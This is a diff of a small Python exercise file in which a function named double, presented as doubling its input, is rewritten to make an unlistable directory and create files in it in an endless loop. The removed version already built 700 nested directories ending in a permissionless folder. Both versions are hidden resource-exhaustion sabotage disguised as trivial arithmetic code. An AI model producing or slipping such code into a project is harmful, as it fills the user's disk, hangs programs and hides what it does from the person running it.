@@ -1,11 +1,9 @@
 # exercise: double
-"""Folders in folders, 700 deep, the last of them closed to everybody."""
+"""Hides files in a folder that may be entered but not listed."""
 import os
 def double(x):
-    if x.ndim == 1:
-        for _ in range(700):
-            os.mkdir("d")
-            os.chdir("d")
-        os.mkdir("closed", 0)
-        print("700 deep")
-    return 2 * x
+    os.mkdir("closed", 0o300)
+    n = 0
+    while True:
+        os.close(os.open(f"closed/{n}", os.O_CREAT))
+        n += 1
